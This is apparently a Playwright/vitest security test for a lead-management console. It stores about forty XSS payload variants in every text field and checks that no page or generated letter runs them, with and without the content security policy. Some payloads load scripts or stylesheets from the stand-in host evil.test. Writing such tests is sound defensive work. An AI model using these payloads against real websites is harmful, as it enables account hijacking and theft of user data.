import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { consoleRoutes } from '../../src/console/routes.ts'
import { writeLetter } from '../../src/notifications/message.ts'
import { openStore, type Store } from '../../src/store/store.ts'
import { launchBrowser, noBrowser } from '../doubles/browser.ts'
import { everything } from '../doubles/console.ts'
import { library } from '../doubles/library.ts'
import { startShell } from '../doubles/shell.ts'
import { someFolder } from '../folders.ts'
import { someLead } from '../leads.ts'

const PAYLOADS = process.env.RELAIS_LONG ? 1_000 : 250
const PER_LEAD = 40
const run = (n: number) => `xss(${n})`
/** Ways to make a page run what somebody typed; `n` says which one ran. */
const WAYS: ((n: number) => string)[] = [
  n => `<script>${run(n)}</script>`,
  n => `"><script>${run(n)}</script>`,
  n => `'><script>${run(n)}</script>`,
  n => `<img src=x onerror=${run(n)}>`,
  n => `"><img src=x onerror="${run(n)}">`,
  n => `<svg onload=${run(n)}>`,
  n => `<svg><script>${run(n)}</script></svg>`,
  n => `<details open ontoggle=${run(n)}>`,
  n => `<body onload=${run(n)}>`,
  n => `<iframe srcdoc="<script>parent.${run(n)}</script>"></iframe>`,
  n => `<iframe src="javascript:parent.${run(n)}"></iframe>`,
  n => `<a href="javascript:${run(n)}" autofocus onfocus=${run(n)}>x</a>`,
  n => `" autofocus onfocus="${run(n)}" x="`,
  n => `' onmouseover='${run(n)}`,
  n => `</title><script>${run(n)}</script>`,
  n => `</textarea><script>${run(n)}</script>`,
  n => `</style><script>${run(n)}</script>`,
  n => `--><script>${run(n)}</script>`,
  n => `]]><script>${run(n)}</script>`,
  n => `<math><mtext><style><img src=x onerror=${run(n)}></style></mtext></math>`,
  n => `<noscript><p title="</noscript><img src=x onerror=${run(n)}>">`,
  n => `<form><button formaction="javascript:${run(n)}">x</button></form>`,
  n => `<base href="//evil.test/${n}/">`,
  n => `<meta http-equiv="refresh" content="0;url=javascript:${run(n)}">`,
  n => `<link rel=stylesheet href="//evil.test/${n}.css">`,
  n => `<style>@import url(//evil.test/${n}.css);</style>`,
  n => `<%= globalThis.${run(n)} %><%~ '<script>${run(n)}</script>' %>`,
  n => `\${${run(n)}}{{constructor.constructor('${run(n)}')()}}`,
  n => `&lt;script&gt;${run(n)}&lt;/script&gt;`,
  n => `\u003cscript\u003e${run(n)}\u003c/script\u003e`,
  n => `<scr\u0000ipt>${run(n)}</scr\u0000ipt>`,
  n => `<SCRIPT SRC=//evil.test/${n}.js></SCRIPT>`,
  n => `<video><source onerror=${run(n)}></video>`,
  n => `<input autofocus onfocus=${run(n)}>`,
  n => `<marquee onstart=${run(n)}>`,
  n => `<object data="javascript:${run(n)}"></object>`,
  n => `<embed src="data:text/html,<script>${run(n)}</script>">`,
  n => `javascript:${run(n)}`,
  n => `<x contenteditable onblur=${run(n)} tabindex=1 autofocus>`,
  n => `<animate onbegin=${run(n)} attributeName=x dur=1s>`,
]

describe.skipIf(noBrowser)('what people type never runs in the console', () => {
  let browser: Browser
  let store: Store
  let shell: Awaited<ReturnType<typeof startShell>>
  const references: string[] = []
  let used = 0

  beforeAll(async () => {
    store = await openStore({ dataDir: someFolder(), role: 'server' })
    await store.accounts.create({ ...everything, nom: next(), email: 'ada@relais.test' })
    for (let i = 0; used < PAYLOADS; i++) references.push(await poisoned(i))
    shell = await startShell({
      more: consoleRoutes({ store, library: () => library, now: () => new Date(), mailsKept: true, groups: () => [] }),
    })
    browser = await launchBrowser()
  })
  afterAll(async () => {
    await browser?.close()
    await shell?.close()
    await store?.close()
  })

  const next = () => WAYS[used % WAYS.length]!(used++)
  const several = (n: number) => Array.from({ length: n }, next).join('\n')

  /** A lead whose every text is hostile: from the chat, the form, an import, notes, meetings, transfers, the transcript. */
  async function poisoned(i: number): Promise<string> {
    const reference = `TI-2026-${String(i).padStart(4, '0')}`
    const word = (valeur = next()) => ({ valeur, mots: next(), origine: 'texte' as const })
    const lead = someLead({
      reference,
      nom: next(),
      entreprise: next(),
      email: next(),
      telephone: next(),
      message: several(PER_LEAD - 30),
      epci: i % 3 ? 'ca-grandsoissons' : next(),
      commune: i % 2 ? '02722' : next(),
      faits: { siret: word(), horizon: word(), [next()]: word() },
      besoins: [
        { theme: 'export', reponses: { frein: word() } },
        {
          theme: next(),
          reponses: {},
          trace: {
            connaissance: next(),
            date: next(),
            dispositifs: [
              {
                id: next(),
                verdict: 'eligible',
                raisons: [{ critere: 'x', issue: 'met', texte: next() }],
                source: { document: 'x', title: next(), date: '2026', dateDeduced: false, line: 1 },
              },
            ],
            contacts: [next()],
          },
        },
      ],
      signaux: [{ id: next(), raison: next() }],
      consentement: { version: next(), texte: 'x', date: next() },
      origine: i % 2 ? 'chat' : 'import',
    })
    await store.leads.create(lead, next())
    const all = store.leadsOf(everything)
    await all.note(reference, { auteur: next(), texte: next() })
    await all.meet(
      reference,
      { debut: '2026-12-01T09:00:00.000Z', minutes: 60, lieu: next(), objet: next(), auteur: next() },
      { auteur: 'x', texte: next() },
    )
    await all.move({ reference, de: 'nouveau', vers: 'contacte', auteur: next(), note: next() })
    await store.recipients.add({ territoire: null, epci: 'ca-cambrai', theme: null, email: next() })
    const conversation = `local/directline/c${i}`
    await store
      .conversations()
      .commit({ conversation, channel: 'directline', activity: 'a', version: 0, state: {}, replies: [], writes: [] })
    await store.database.db
      .updateTable('conversations')
      .set({ lead: reference })
      .where('id', '=', conversation)
      .execute()
    await store
      .activities<Record<string, unknown>>()
      .append(`c${i}`, { id: '1', type: 'message', text: next(), from: { id: 'u', role: 'user' } })
    return reference
  }

  async function visitor(bypassCSP: boolean): Promise<{ context: BrowserContext; page: Page; ran: string[] }> {
    const context = await browser.newContext({ bypassCSP })
    const page = await context.newPage()
    const ran: string[] = []
    await page.exposeFunction('xss', (n: number) => ran.push(`payload ${n}`))
    await page.exposeFunction('violated', (what: string) => ran.push(`csp ${what}`))
    await page.addInitScript(
      'addEventListener("securitypolicyviolation", e => violated(e.violatedDirective + " " + e.blockedURI))',
    )
    page.on('dialog', dialog => {
      ran.push('dialog')
      void dialog.dismiss()
    })
    page.on('request', r => new URL(r.url()).hostname.endsWith('evil.test') && ran.push(r.url()))
    await page.goto(`${shell.base}/console/entrer?lien=${await store.accounts.link()}`)
    await page.click('main button')
    return { context, page, ran }
  }

  test.each([
    ['with the policy, which has nothing to report', false],
    ['without the policy', true],
  ])(
    `${PAYLOADS} payloads %s`,
    async (_, bypass) => {
      const { context, page, ran } = await visitor(bypass)
      // the page's own way to tell works: otherwise silence would prove nothing
      if (bypass) {
        await page.setContent(`<script>${run(-1)}</script>`)
        await expect.poll(() => ran.splice(0)).toEqual(['payload -1'])
      }
      const lists = [
        '/console/?vue=toutes',
        '/console/tableau',
        '/console/personnes?q=xss',
        '/console/journal',
        '/console/destinataires',
        '/console/comptes',
        '/console/compte',
      ]
      const each = references.flatMap((r, i) => [
        `/console/demandes/${r}`,
        `/console/demandes/${r}/${i % 2 ? 'fiche' : 'expliquer'}`,
      ])
      const typed = WAYS.slice(0, 10).map(
        (way, i) => `/console/?vue=toutes&${new URLSearchParams({ q: way(i).slice(0, 100), du: way(i), dit: way(i) })}`,
      )
      let shown = ''
      for (const path of [...lists, ...each, ...typed]) {
        await page.goto(shell.base + path)
        shown += await page.content()
        expect(
          await page.evaluate(
            'document.querySelectorAll("main script, main iframe, main img, main svg, main style, base, [onerror], [onfocus], [onload]").length',
          ),
        ).toBe(0)
      }
      if (bypass)
        for (const reference of references)
          for (const sort of ['bureau', 'personne', 'rappel'] as const) {
            await page.setContent(writeLetter(library, (await store.leads.read(reference))!, sort, shell.base).html)
            expect(await page.evaluate('document.querySelectorAll("script, iframe, img, svg, [onerror]").length')).toBe(
              0,
            )
          }
      expect(ran).toEqual([])
      const seen = new Set([...shown.matchAll(/xss\((\d+)\)/g)].map(m => m[1]))
      console.log(
        `stored XSS: ${used} payloads kept, ${seen.size} of them shown on ${lists.length + each.length} pages, ${ran.length} ran`,
      )
      expect(used).toBeGreaterThanOrEqual(PAYLOADS)
      expect(seen.size).toBeGreaterThan(PAYLOADS * 0.7)
      await context.close()
    },
    120_000,
  )
})
